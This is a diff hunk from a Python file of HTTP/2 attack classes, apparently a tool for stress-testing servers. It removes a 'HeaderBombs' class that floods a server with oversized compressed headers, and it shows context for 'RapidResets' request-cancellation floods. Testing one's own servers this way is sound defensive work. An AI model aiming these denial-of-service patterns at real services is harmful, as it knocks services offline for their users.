@@ -119,21 +119,6 @@ class ClosedWindows(Attack):
             self.sent_bytes += len(self.later[at])
 
 
-class HeaderBombs(Attack):
-    """Heads with as many fields as are allowed, each of one byte on the wire, for answers that
-    nobody takes."""
-
-    def __init__(self, port, connections, requests=100, path="/", **options):
-        super().__init__(port, connections, **options)
-        big = remembered("x-big", "y" * 100)
-        heads = [head(1, path, more=big + b"\xbe" * 60)]
-        heads += [head(2 * i + 1, path, more=b"\xbe" * 60) for i in range(1, requests)]
-        self.data = greeting(0) + b"".join(heads)
-
-    def visit(self, index):
-        return self.data
-
-
 class RapidResets(Attack):
     """Requests that are taken back 50 ms later, when the service works on them: `burst` on each
     connection at a time. A connection that was ended comes again at the next visit."""
